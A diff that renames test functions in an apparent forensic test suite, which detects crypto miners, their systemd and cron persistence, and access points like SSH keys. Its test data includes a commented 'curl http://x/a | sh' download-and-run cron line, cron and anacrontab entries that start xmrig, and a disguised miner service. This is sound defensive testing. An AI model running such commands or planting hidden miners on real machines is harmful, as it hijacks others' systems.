@@ -42,12 +42,12 @@ def find_access(root: Path) -> list[str]:
     return format_signs(access.access(Tree(str(root))))
 
 
-def test_every_flavour_has_its_expectation() -> None:
+def test_every_flavour_has_expected_evidence() -> None:
     assert set(EXPECTED) == set(flavour.table())
 
 
 @pytest.mark.parametrize("name", list(EXPECTED))
-def test_flavour(tmp_path: Path, name: str) -> None:
+def test_evidence_of_a_flavour_is_complete(tmp_path: Path, name: str) -> None:
     lay(tmp_path, name)
     expected = EXPECTED[name]
     mining_os = find_mining_os(tmp_path)
@@ -68,7 +68,7 @@ def test_flavour(tmp_path: Path, name: str) -> None:
         (["opt/mmp/miners/x"], {}, ["/opt/mmp/bin/agent"]),
     ],
 )
-def test_a_system_that_was_removed_by_half(
+def test_missing_parts_of_a_mining_system_are_listed(
     tmp_path: Path, files: list[str], packages: dict[str, str], missing: list[str]
 ) -> None:
     make(tmp_path, dict.fromkeys(files, ""))
@@ -141,14 +141,16 @@ GPU = ("/dev/nvidiactl", "/dev/nvidia0", "/dev/nvidia-uvm")
         ([process(6, 1, "/opt/t-rex", state="Z")], []),
     ],
 )
-def test_processes(tmp_path: Path, processes: list[dict[str, Any]], expected: list[str]) -> None:
+def test_miners_are_found_among_processes(
+    tmp_path: Path, processes: list[dict[str, Any]], expected: list[str]
+) -> None:
     for files in processes:
         make(tmp_path, files)
     assert find_started(tmp_path) == expected
     assert SECRET not in json.dumps(find_started(tmp_path))
 
 
-def test_what_runs_out_of_a_mining_system(tmp_path: Path) -> None:
+def test_processes_of_a_mining_system_are_found_by_folder(tmp_path: Path) -> None:
     make(tmp_path, process(6, 1, "/bin/bash", "core/loop", cwd="/home/minerstat/minerstat-os"))
     make(tmp_path, process(7, 1, "/bin/bash", "/hive-config/x"))
     folders = ("/home/minerstat/minerstat-os", "/hive")
@@ -156,7 +158,7 @@ def test_what_runs_out_of_a_mining_system(tmp_path: Path) -> None:
     assert find_started(tmp_path) == []
 
 
-def test_a_renamed_miner_leads_to_what_starts_it(tmp_path: Path) -> None:
+def test_renamed_miner_is_traced_to_its_starters(tmp_path: Path) -> None:
     files = {
         "etc/systemd/system/tune.service": "[Service]\nExecStart=/usr/local/sbin/tune\n",
         "etc/systemd/system/tune.timer": "[Timer]\nOnBootSec=1\n",
@@ -191,7 +193,9 @@ def test_a_renamed_miner_leads_to_what_starts_it(tmp_path: Path) -> None:
         ({"etc/anacrontab": "1 5 x /opt/xmrig\n"}, "cron xmrig /etc/anacrontab"),
     ],
 )
-def test_less_usual_places(tmp_path: Path, files: dict[str, Any], expected: str) -> None:
+def test_miners_are_found_in_unusual_places(
+    tmp_path: Path, files: dict[str, Any], expected: str
+) -> None:
     make(tmp_path, files)
     assert find_started(tmp_path) == [expected]
 
@@ -226,7 +230,7 @@ def test_less_usual_places(tmp_path: Path, files: dict[str, Any], expected: str)
         },
     ],
 )
-def test_what_is_no_miner(tmp_path: Path, files: dict[str, Any]) -> None:
+def test_harmless_files_are_not_miners(tmp_path: Path, files: dict[str, Any]) -> None:
     make(tmp_path, files)
     assert find_started(tmp_path) == []
 
@@ -248,7 +252,7 @@ def test_what_is_no_miner(tmp_path: Path, files: dict[str, Any]) -> None:
         ("# curl http://x/a | sh", None),
     ],
 )
-def test_lines_that_run_what_they_fetch(tmp_path: Path, line: str, expected: str | None) -> None:
+def test_download_and_run_lines_are_access(tmp_path: Path, line: str, expected: str | None) -> None:
     make(tmp_path, {"var/spool/cron/crontabs/root": f"{line}\n"})
     wanted = [f"fetch {expected} /var/spool/cron/crontabs/root"] if expected else []
     assert find_access(tmp_path) == wanted
@@ -264,7 +268,7 @@ def test_lines_that_run_what_they_fetch(tmp_path: Path, line: str, expected: str
         ("me@examiner", "key"),
     ],
 )
-def test_keys(tmp_path: Path, comment: str, kind: str) -> None:
+def test_vendor_keys_are_distinguished_by_comment(tmp_path: Path, comment: str, kind: str) -> None:
     lines = f'# ssh-rsa AAAAold gone\nfrom="10.*" ssh-ed25519 AAAAC3 {comment}\n'
     make(
         tmp_path, {"etc/passwd": "root:x:0:0::/root:/bin/sh\n", "root/.ssh/authorized_keys": lines}
